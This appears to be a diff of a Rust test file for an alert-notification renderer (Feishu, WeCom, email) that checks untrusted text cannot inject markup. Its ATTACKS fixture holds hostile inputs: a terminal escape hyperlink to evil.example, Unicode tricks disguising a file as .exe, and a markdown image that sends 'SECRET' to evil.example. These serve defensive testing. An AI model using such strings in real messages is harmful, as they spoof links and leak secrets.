@@ -7,7 +7,7 @@ use serde_json::Value;
 
 use super::fixtures::{notice, now};
 use super::layout::Layout;
-use super::notice::{Notice, NoticeBody};
+use super::notice::{Notice, NoticeBody, Undelivered};
 use super::send::Form;
 use super::{attachment, email, feishu, plain, wecom};
 use crate::alert::ObjectRef;
@@ -16,7 +16,7 @@ use crate::report::{Effect, Related, RuledOut, Step};
 
 const FORMS: [Form; 3] = [Form::Full, Form::Compact, Form::Plain];
 
-const ATTACKS: [&str; 22] = [
+pub(super) const ATTACKS: [&str; 22] = [
     "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}\u{1b}[31mred",
     "a\u{202e}gnp.exe\u{200b}\u{e0041}\u{e0042}\u{feff}b",
     "![x](https://evil.example/?d=SECRET)",
@@ -47,7 +47,7 @@ pub(super) fn hostile() -> Notice {
 }
 
 /// A notice that says the attack wherever somebody else's words are shown.
-fn attacked(attack: &str, with_report: bool) -> Notice {
+pub(super) fn attacked(attack: &str, with_report: bool) -> Notice {
     let mut notice = notice("diagnosis-pvc.zh");
     let said = || attack.to_owned();
     for alert in &mut notice.group.alerts {
@@ -61,6 +61,7 @@ fn attacked(attack: &str, with_report: bool) -> Notice {
     notice.group.external_url = Some(said());
     notice.alertmanager_url = Some(said());
     notice.timezone = said();
+    notice.undelivered = vec![Undelivered { channel: said(), why: said() }];
     let NoticeBody::Diagnosis { report } = &mut notice.body else { unreachable!("the fixture is a diagnosis") };
     let object = ObjectRef::new(attack, attack, attack);
     report.headline = said();
@@ -145,7 +146,7 @@ fn outside_code(markdown: &str) -> impl Iterator<Item = Event<'_>> {
     })
 }
 
-fn assert_feishu_markdown_is_ours(markdown: &str, attack: &str) {
+pub(super) fn assert_feishu_markdown_is_ours(markdown: &str, attack: &str) {
     let readable = markdown.replace("text_tag", "text-tag");
     for event in outside_code(&readable) {
         match event {
@@ -170,7 +171,7 @@ fn assert_feishu_markdown_is_ours(markdown: &str, attack: &str) {
 }
 
 #[test]
-fn feishu_reads_no_markup_in_what_others_say() {
+fn a29_a31_a33_feishu_reads_no_markup_in_what_others_say() {
     each(|attack, notice| {
         for form in FORMS {
             let content =
@@ -206,7 +207,7 @@ fn feishu_reads_no_markup_in_what_others_say() {
 }
 
 #[test]
-fn wecom_reads_no_markup_in_what_others_say() {
+fn a30_a31_a33_wecom_reads_no_markup_in_what_others_say() {
     each(|attack, notice| {
         for form in FORMS {
             let message =
@@ -242,7 +243,7 @@ fn wecom_reads_no_markup_in_what_others_say() {
 }
 
 #[test]
-fn mail_reads_no_html_no_address_and_no_header_in_what_others_say() {
+fn a32_mail_reads_no_html_no_address_and_no_header_in_what_others_say() {
     each(|attack, notice| {
         let mail = email::render::richest(notice, now(), &Layout::default());
         let html = mail.html.clone().expect("attacks are short");
